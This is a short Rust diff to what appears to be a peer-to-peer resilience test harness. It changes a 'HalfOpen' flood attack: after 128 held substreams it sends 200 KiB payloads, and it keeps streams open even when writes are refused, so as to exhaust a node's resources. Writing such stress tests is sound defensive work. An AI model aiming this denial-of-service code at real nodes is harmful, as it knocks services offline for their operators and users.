@@ -15,6 +15,9 @@ use crate::case::Attack;
 const LINES: usize = 32;
 /// Substreams of one connection that are held.
 const HELD: usize = 200;
+/// So many of them a node takes before it knows what they are for; on the others there is this much.
+const TAKEN: usize = 128;
+const MUCH: usize = 200 << 10;
 const PROTOCOLS: [&str; 3] = ["/peer/1.1.0", "/peer/1.1.0/hop", "/peer/1.0.0"];
 
 pub(super) async fn begin(attack: Attack, attempt: &Attempt) -> Result<Tasks, Failure> {
@@ -38,9 +41,11 @@ async fn flood(attack: Attack, line: &Line, attempt: &Attempt) -> io::Result<()>
         match attack {
             Attack::Streams => drop(line.say(protocol, &[]).await?),
             Attack::HalfOpen => {
+                let bytes: &[u8] = if held.len() < TAKEN { b"\x13" } else { &[0; MUCH] };
                 let mut stream = line.stream().await?;
-                stream.write_all(b"\x13").await?;
-                stream.flush().await?;
+                // One that is refused is held all the same.
+                let _ = stream.write_all(bytes).await;
+                let _ = stream.flush().await;
                 held.push(stream);
             }
             Attack::SlowWriter => {
